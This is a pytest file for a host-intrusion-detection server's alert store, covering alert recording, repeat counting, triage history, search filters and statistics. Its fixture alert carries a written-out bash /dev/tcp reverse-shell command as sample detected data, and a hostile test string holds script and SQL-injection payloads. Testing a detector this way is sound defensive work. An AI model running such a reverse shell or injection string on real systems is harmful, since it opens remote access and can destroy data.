"""Alerts in the store on SQLite and PostgreSQL: recording, repeats, search, triage, figures."""

from __future__ import annotations

import time
from dataclasses import replace

import pytest

from elkeid.server.engine import SEVERITIES, STATUSES
from elkeid.server.store import AlertFilter, Conflict, NotFound, Store
from elkeid.server.store._engine import NUL_STANDIN
from tests.unit.server.store._helpers import B, add_agent, enrolled

HOSTILE = "<script>alert('x')</script> \" ' % _ \\ ; DROP TABLE alerts; -- ☃ 𝕏 \u202e"


def alert(**over) -> dict:
    now = over.pop("now", time.time())
    base = {
        "dedup_key": "k1", "rule_id": "reverse_shell_dev_tcp", "rule_name": "Reverse shell", "severity": "critical",
        "rule_source": "default", "rule_kind": "detection", "description": "d", "attack": ["T1059.004"],
        "agent_id": "a1", "hostname": "web-1", "data_type": 59,
        "event": {"data_type": 59, "exe": "/usr/bin/bash", "argv": "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"},
        "fields": {}, "frequency": None, "process_chain": [{"pid": "42", "source": "event"}],
        "first_seen": now, "last_seen": now, "count": 1, "status": "open", "history": [], "id": None,
    }  # fmt: skip
    base.update(over)
    return base


@pytest.fixture
def store(db_url):
    s = Store(db_url)
    yield s
    s.close()


def test_recorded_alerts_come_back_whole(store):
    [rec] = store.record_alerts([alert(event={"argv": HOSTILE, "nul": "a\0b"}, hostname=HOSTILE[:200])])
    got = store.get_alert(rec["id"])
    assert got["event"] == {"argv": HOSTILE, "nul": f"a{NUL_STANDIN}b"}  # PostgreSQL cannot hold NUL: a visible stand-in
    assert got["hostname"] == HOSTILE[:200] and got["process_chain"] == [{"pid": "42", "source": "event"}]
    assert got["history"] == [] and got["status"] == "open" and got["count"] == 1
    with pytest.raises(NotFound, match="no alert with id 999"):
        store.get_alert(999)


def test_repeats_raise_count_and_last_seen_of_the_live_alert(store):
    t = time.time()
    [first] = store.record_alerts([alert(now=t)])
    assert store.record_alerts([], {"k1": (4, t + 50)}) == []
    assert store.record_alerts([], {"k1": (1, t + 10)}) == []  # late: count moves, last_seen does not go back
    got = store.get_alert(first["id"])
    assert (got["count"], got["last_seen"], got["first_seen"]) == (6, t + 50, t)
    assert store.live_alerts_since(t - 1) == [("k1", t, t + 50, 6)]


def test_a_repeat_of_an_ended_alert_raises_a_new_one(store):
    [first] = store.record_alerts([alert()])
    store.set_alert_status(first["id"], "open", "resolved", by="alice", comment="fixed")
    asked = []
    out = store.record_alerts([], {"k1": (3, time.time())}, lambda key, n: asked.append((key, n)) or alert(count=n))
    assert asked == [("k1", 3)] and len(out) == 1 and out[0]["id"] != first["id"]
    assert store.get_alert(out[0]["id"])["count"] == 3
    assert store.get_alert(first["id"])["count"] == 1


def test_status_changes_are_conditional_and_kept_in_history(store):
    [a] = store.record_alerts([alert()])
    store.set_alert_status(a["id"], "open", "acknowledged", by="alice", comment="looking")
    with pytest.raises(Conflict, match="is acknowledged now, not open"):
        store.set_alert_status(a["id"], "open", "resolved", by="bob")
    store.set_alert_status(a["id"], "acknowledged", "false_positive", by="bob", comment=HOSTILE)
    got = store.get_alert(a["id"])
    assert got["status"] == "false_positive"
    assert [(h["by"], h["from"], h["to"], h["comment"]) for h in got["history"]] == [
        ("alice", "open", "acknowledged", "looking"), ("bob", "acknowledged", "false_positive", HOSTILE)]
    with pytest.raises(NotFound):
        store.set_alert_status(12345, "open", "resolved", by="bob")


def test_filters_sorting_paging_and_text_search(store):
    t = 1_700_000_000.0
    store.record_alerts([
        alert(dedup_key="a", severity="low", rule_id="r.low", agent_id="a1", hostname="web-1", now=t),
        alert(dedup_key="b", severity="high", rule_id="r.high", agent_id="a2", hostname="DB-1", now=t + 10,
              event={"argv": "curl 100%_done"}),
        alert(dedup_key="c", severity="critical", rule_id="r.crit", agent_id="a1", hostname="web-2", now=t + 20),
    ])  # fmt: skip

    def ids(flt=AlertFilter(), **kw):
        items, total = store.list_alerts(flt, **kw)
        return [i["dedup_key"] for i in items], total

    assert ids() == (["c", "b", "a"], 3)
    assert ids(sort="severity", descending=False) == (["a", "b", "c"], 3)
    assert ids(offset=1, limit=1) == (["b"], 3)
    assert ids(AlertFilter(severities=["low", "critical"])) == (["c", "a"], 2)
    assert ids(AlertFilter(agent_id="a1", rule_ids=["r.crit"])) == (["c"], 1)
    assert ids(AlertFilter(hostname="db")) == (["b"], 1)
    assert ids(AlertFilter(since=t + 5, until=t + 15)) == (["b"], 1)
    assert ids(AlertFilter(text="100%_DONE")) == (["b"], 1)
    assert ids(AlertFilter(text="100%x")) == ([], 0)  # % and _ are text, not wildcards
    assert ids(AlertFilter(text="%")) == (["b"], 1)
    assert ids(AlertFilter(statuses=["resolved"])) == ([], 0)
    item = store.list_alerts(AlertFilter(text="web-2"))[0][0]
    assert "process_chain" not in item and "history" not in item and item["event"]["argv"].startswith("bash -i")


def test_facet_counts_match_every_other_filter(store):
    t = 1_700_000_000.0
    store.record_alerts([
        alert(dedup_key="a", severity="low", status="open", agent_id="a1", now=t),
        alert(dedup_key="b", severity="low", status="resolved", agent_id="a1", now=t + 10),
        alert(dedup_key="c", severity="high", status="open", agent_id="a2", now=t + 20),
        alert(dedup_key="d", severity="critical", status="acknowledged", agent_id="a1", now=t + 30),
        alert(dedup_key="e", severity="critical", status="false_positive", agent_id="a1", now=t + 40),
    ])  # fmt: skip
    facets = store.alert_facets(AlertFilter())
    assert tuple(facets["status"]) == STATUSES and tuple(facets["severity"]) == SEVERITIES
    assert facets["status"] == {"open": 2, "acknowledged": 1, "resolved": 1, "false_positive": 1}
    assert facets["severity"] == {"info": 0, "low": 2, "medium": 0, "high": 1, "critical": 2}

    def one_count_per_choice(flt: AlertFilter) -> dict[str, dict[str, int]]:
        """What the grouped query replaces: a count per choice, that facet's own filter swapped for it."""
        return {"status": {s: store.list_alerts(replace(flt, statuses=[s]), limit=1)[1] for s in STATUSES},
                "severity": {s: store.list_alerts(replace(flt, severities=[s]), limit=1)[1] for s in SEVERITIES}}

    for flt in (AlertFilter(statuses=["open"]), AlertFilter(severities=["low", "critical"]),
                AlertFilter(statuses=["open", "acknowledged"], severities=["critical"], agent_id="a1"),
                AlertFilter(since=t + 15), AlertFilter(text="nothing like this"), AlertFilter(agent_id="a2")):
        assert store.alert_facets(flt) == one_count_per_choice(flt), flt
    narrowed = store.alert_facets(AlertFilter(statuses=["open"], severities=["low"]))
    assert narrowed["status"]["resolved"] == 1 and narrowed["severity"]["high"] == 1  # each facet ignores its own


def test_overview_figures(store):
    hour = 3600.0
    t0 = 1_700_000_000.0 - 1_700_000_000.0 % hour
    store.record_alerts([
        alert(dedup_key="1", severity="high", rule_id="r1", agent_id="a1", hostname="h1", now=t0 + 10, count=5),
        alert(dedup_key="2", severity="high", rule_id="r1", agent_id="a2", hostname="h2", now=t0 + hour + 5),
        alert(dedup_key="3", severity="low", rule_id="r2", agent_id="a1", hostname="h1", now=t0 + hour + 7),
        alert(dedup_key="4", severity="critical", rule_id="r3", agent_id="a1", hostname="h1", now=t0 - 10 * hour),
    ])  # fmt: skip
    stats = store.alert_stats(t0 + 5, t0 + 2 * hour - 1, hour, top=2)
    assert [(s["start"], s["high"], s["low"]) for s in stats["series"]] == [(t0, 1, 0), (t0 + hour, 1, 1)]
    assert stats["by_severity"]["high"] == 2 and stats["by_severity"]["critical"] == 0
    assert stats["by_status"]["open"] == 3
    assert stats["live_by_severity"]["critical"] == 1  # live alerts whatever their age
    assert stats["top_rules"][0] == {"rule_id": "r1", "rule_name": "Reverse shell", "severity": "high", "alerts": 2,
                                     "events": 6}  # fmt: skip
    assert stats["top_hosts"] == [{"agent_id": "a1", "hostname": "h1", "alerts": 2, "max_severity": "high"},
                                  {"agent_id": "a2", "hostname": "h2", "alerts": 1, "max_severity": "high"}]  # fmt: skip
    counts = store.alert_counts_by_rule()
    assert counts["r1"]["alerts"] == 2 and counts["r3"]["last_alert_at"] == t0 - 10 * hour


def test_process_events_for_chains(store):
    enrolled(store, "a1")
    store.store_batches([B("a1", 1, [
        (59, 100, {"pid": "10", "exe": "/usr/bin/bash", "argv": "bash"}),
        (42, 101, {"pid": "10", "dip": "203.0.113.5"}),
        (42, 102, {"pid": "11", "dip": "203.0.113.6"}),
        (59, 103, {"pid": "12", "exe": "/usr/bin/id"}),
    ])])  # fmt: skip
    got = store.process_events("a1", ["10", "11", "99"])
    assert sorted((e["data_type"], e["pid"]) for e in got) == [(42, "11"), (59, "10")]  # 42 of pid 10 not needed
    assert store.process_events("other", ["10"]) == [] and store.process_events("a1", []) == []


def test_agent_hostnames(store):
    add_agent(store, "a1", hostname="web-1")
    assert store.agent_hostnames(["a1", "nope"]) == {"a1": "web-1"}


def test_marks_move_with_every_raise_repeat_and_triage_and_name_the_alerts_changed(store):
    empty = store.alert_marks()
    assert empty == (0.0, 0) and store.alerts_changed_since(empty) == []
    t = time.time()
    first, second = store.record_alerts([alert(now=t), alert(dedup_key="k2", now=t)])
    raised = store.alert_marks()
    assert raised[0] == t and store.alerts_changed_since(empty) == sorted([first["id"], second["id"]])
    store.record_alerts([], {"k1": (3, t + 5)})  # a repeat moves last_seen
    repeated = store.alert_marks()
    assert repeated[0] == t + 5 and store.alerts_changed_since(raised) == [first["id"]]
    store.set_alert_status(second["id"], "open", "acknowledged", by="alice")  # a triage step, no new last_seen
    triaged = store.alert_marks()
    assert triaged[0] == repeated[0] and triaged[1] > repeated[1]
    assert store.alerts_changed_since(repeated) == [second["id"]] and store.alerts_changed_since(triaged) == []
